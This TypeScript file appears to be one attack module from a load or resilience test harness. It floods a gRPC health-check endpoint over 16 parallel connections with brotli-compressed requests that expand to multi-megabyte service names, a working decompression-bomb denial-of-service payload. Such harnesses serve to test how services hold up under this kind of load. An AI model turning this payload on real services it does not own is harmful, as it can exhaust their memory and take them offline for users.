import { brotliCompressSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import { Health, HealthCheckRequestSchema } from "#gen/grpc/health/v1/health_pb.js";
import type { Attack } from "../target/attack.ts";
import { inParallel } from "../target/loops.ts";
import { keepPosting } from "../target/posts.ts";

const CONNECTIONS = 16;
/** Beyond the largest body that a public service reads, and just below it. */
const NAME_BYTES = [3 * 1024 * 1024, 512 * 1024 - 16];

export const healthNames: Attack = {
  name: "health-names",
  summary: `${CONNECTIONS} connections check the health of a service whose name has 3 MiB, in 23 bytes of brotli`,
  prepare: (target) => {
    const requests = NAME_BYTES.map((length) => {
      const request = create(HealthCheckRequestSchema, { service: "x".repeat(length) });
      return brotliCompressSync(toBinary(HealthCheckRequestSchema, request));
    });
    return (signal) => {
      target.tally.add("bytes_of_a_body", requests[0]!.length);
      return inParallel(CONNECTIONS, (nth) =>
        keepPosting(target, signal, {
          method: `${Health.typeName}/Check`,
          request: requests[nth % requests.length]!,
          headers: { "Content-Encoding": "br" },
        }),
      );
    };
  },
};
